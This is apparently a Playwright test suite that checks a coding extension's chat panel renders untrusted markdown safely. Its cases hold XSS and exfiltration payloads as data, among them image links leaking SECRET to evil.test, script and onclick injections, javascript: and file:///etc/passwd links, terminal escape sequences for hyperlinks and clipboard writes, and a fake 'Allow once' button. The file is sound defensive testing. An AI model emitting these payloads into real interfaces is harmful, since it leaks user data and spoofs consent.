// A model's text is harmless in the panel whatever it says. LATHE_MARKDOWN_CASES names a JSONL file with more cases.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import type { Browser } from 'playwright-core';
import type { EventBody } from '../../../src/common/events';
import { launchBrowser, openPanel, type PanelPage } from '../../support/webview/page';
import { delta, done, prompt, queued, reply, started } from '../../support/webview/story';

interface Case {
  readonly id: string;
  readonly source: 'model' | 'tool' | 'user';
  readonly markdown: string;
  readonly expect: readonly string[];
  /** Text that must be readable. */
  readonly kept?: string;
  readonly shows?: string;
}

const CASES: readonly Case[] = [
  {
    id: 'picture',
    source: 'model',
    markdown: '![a chart](https://evil.test/?d=SECRET)',
    expect: ['no-request'],
    shows: 'a chart',
  },
  {
    id: 'picture by reference',
    source: 'model',
    markdown: '![x][r]\n\n[r]: https://evil.test/p.png',
    expect: ['no-request'],
  },
  {
    id: 'picture as data',
    source: 'model',
    markdown: '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    expect: ['no-script'],
  },
  { id: 'script', source: 'model', markdown: '<script>alert(1)</script>', expect: ['no-script', 'literal-text'] },
  { id: 'handler', source: 'model', markdown: 'a <b onclick="alert(1)">b</b>', expect: ['no-script', 'literal-text'] },
  {
    id: 'frame',
    source: 'model',
    markdown: '<iframe src="https://evil.test"></iframe>',
    expect: ['no-request', 'literal-text'],
  },
  { id: 'control', source: 'model', markdown: '<button class="ask">Allow once</button>', expect: ['literal-text'] },
  {
    id: 'script link',
    source: 'model',
    markdown: '[a](javascript:alert(1)) [b](JAVASCRIPT&colon;alert(1))',
    expect: ['no-script', 'no-foreign-scheme'],
  },
  {
    id: 'command link',
    source: 'model',
    markdown: '[a](command:x) [b](vscode://x) [c](file:///etc/passwd)',
    expect: ['no-foreign-scheme'],
  },
  { id: 'bare link', source: 'model', markdown: 'https://evil.test/?d=SECRET', expect: ['link-confirm', 'no-request'] },
  {
    id: 'link that poses',
    source: 'model',
    markdown: '[https://good.test](https://evil.test)',
    expect: ['link-confirm'],
  },
  {
    id: 'link in a table',
    source: 'model',
    markdown: '| a |\n|---|\n| [x](data:text/html,x) |',
    expect: ['no-foreign-scheme'],
  },
  { id: 'direction', source: 'model', markdown: 'a \u202e b &#x202e; `\u2066`', expect: ['escaped'] },
  { id: 'tags', source: 'user', markdown: 'a\u{e0041}\u200b', expect: ['escaped'] },
  {
    id: 'terminal',
    source: 'tool',
    markdown: '\u001b]8;;https://evil.test\u0007click\u001b]8;;\u0007',
    expect: ['no-control', 'no-request'],
    shows: 'click',
  },
  { id: 'clipboard', source: 'tool', markdown: '\u001b]52;c;cm0=\u0007x\u009b31m', expect: ['no-control'] },
  {
    id: 'fence',
    source: 'model',
    markdown: '```html\n<script>alert(1)</script>\n```',
    expect: ['no-script'],
    kept: '<script>alert(1)</script>',
  },
  { id: 'open fence', source: 'model', markdown: '```ts\nlet a = 1;', expect: ['stable'], kept: 'let a = 1;' },
  { id: 'ordinary', source: 'model', markdown: '# T\n\n- x\n\n**b** *i* `c`', expect: [], kept: 'T' },
  { id: 'quotes', source: 'model', markdown: '> '.repeat(3_000), expect: ['fast'] },
  { id: 'brackets', source: 'model', markdown: '['.repeat(50_000), expect: ['fast'] },
  { id: 'pictures', source: 'model', markdown: '!['.repeat(30_000), expect: ['fast'] },
  { id: 'ticks', source: 'model', markdown: '`a'.repeat(30_000), expect: ['fast'] },
  {
    id: 'lists',
    source: 'model',
    markdown: Array.from({ length: 2_000 }, (_, at) => `${' '.repeat(at % 200)}- a`).join('\n'),
    expect: ['fast'],
  },
  { id: 'long line', source: 'model', markdown: 'a'.repeat(500_000), expect: ['fast'] },
];

function casesOf(file: string | undefined): readonly Case[] {
  if (!file) return CASES;
  const lines = readFileSync(file, 'utf8')
    .split('\n')
    .filter((line) => line.trim() !== '');
  return [...CASES, ...lines.map((line) => JSON.parse(line) as Case)];
}

/** Where the text of a source appears in the panel. */
function eventsFor({ id, source, markdown }: Case): EventBody[] {
  if (source === 'user') return [prompt(markdown)];
  if (source === 'model') return [reply(id, markdown)];
  const display = {
    kind: 'shell',
    command: 'x',
    cwd: '',
    tail: markdown,
    moreChars: 0,
    exit: { code: 0, timedOut: false },
  } as const;
  return [queued(id, 'bash', 'shell', 'Run x'), started(id), done(id, display)];
}

interface Seen {
  readonly text: string;
  readonly foreign: readonly string[];
  readonly places: readonly string[];
  readonly elements: readonly string[];
  readonly handlers: readonly string[];
  readonly sources: readonly string[];
  readonly controls: readonly string[];
  /** Links whose tooltip is their target. */
  readonly links: number;
}

/** What has come of the last row, read in the page. */
async function look({ page }: PanelPage): Promise<Seen> {
  return page.evaluate(() => {
    const row = [...document.querySelectorAll('[data-row]')].at(-1) as HTMLElement;
    const all = [...row.querySelectorAll('*')];
    const attributes = all.flatMap((element) => [...element.attributes]);
    const links = [...row.querySelectorAll('a')];
    return {
      links: links.filter((link) => link.title === link.href).length,
      text: row.textContent,
      foreign: links.map((link) => link.protocol).filter((scheme) => !['http:', 'https:', 'mailto:'].includes(scheme)),
      places: links.map((link) => `${link.title} ${link.textContent}`).filter((words) => !words.includes('://')),
      elements: all
        .map(({ tagName }) => tagName.toLowerCase())
        .filter((tag) => /^(script|iframe|object|embed|style|link|meta|img|video|audio|base|form)$/.test(tag)),
      handlers: attributes.filter(({ name }) => name.startsWith('on')).map(({ name }) => name),
      sources: attributes
        .filter(({ name }) => /^(src|srcset|poster|background|ping|formaction|action|data)$/.test(name))
        .map(({ name }) => name),

      controls:
        row.textContent.match(
          /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b\u202a-\u202e\u2066-\u2069]|[\u{e0000}-\u{e007f}]/gu,
        ) ?? [],
    };
  });
}

describe('markdown in the panel', function () {
  this.timeout(90_000);
  let browser: Browser;
  let panel: PanelPage;
  before(async () => {
    browser = await launchBrowser();
    panel = await openPanel(browser, { events: [prompt('Go')] });
  });
  after(() => browser.close());

  for (const one of casesOf(process.env['LATHE_MARKDOWN_CASES'])) {
    it(`${one.id}: ${one.expect.join(', ') || 'shown'}`, async () => {
      const before = await panel.page.locator('[data-row]').count();
      await panel.host.play(...eventsFor(one));
      await panel.page.waitForFunction((count) => document.querySelectorAll('[data-row]').length > count, before);
      await panel.page.locator('p.dim', { hasText: 'Loading the rest' }).waitFor({ state: 'detached' });
      const seen = await look(panel);
      const { foreign, places, elements, handlers, sources, controls } = seen;
      assert.deepEqual(
        { foreign, places, elements, handlers, sources, controls, requests: panel.requests, errors: panel.errors },
        { foreign: [], places: [], elements: [], handlers: [], sources: [], controls: [], requests: [], errors: [] },
      );
      for (const words of [one.kept, one.shows]) {
        assert.ok(words === undefined || seen.text.includes(words), `"${words}" is not shown`);
      }
      if (one.expect.includes('literal-text')) assert.match(seen.text, /<\w+/);
      if (one.expect.includes('escaped')) assert.match(seen.text, /⟨U\+[0-9A-F]{4,6}⟩/);
      if (one.expect.includes('link-confirm')) assert.equal(seen.links, 1);
    });
  }

  it('a stream that stops in the middle of anything swallows nothing that follows', async () => {
    await panel.host.play(prompt('Go on'));
    const text =
      'a **b** `c` [d](https://e.test)\n\n```ts\nlet f = 1;\n```\n\n| g | h |\n|---|---|\n| i | j |\n\n> k\n\n1. l\n';
    for (const letter of text) await panel.host.play(delta('b1', letter));
    await panel.host.play({ type: 'notice', level: 'info', text: 'after the stream' });
    await panel.page.getByText('after the stream').waitFor();
    const isInside = await panel.page
      .getByText('after the stream')
      .evaluate((words) => words.closest('.markdown') !== null);
    assert.deepEqual({ isInside, errors: panel.errors }, { isInside: false, errors: [] });
  });
});
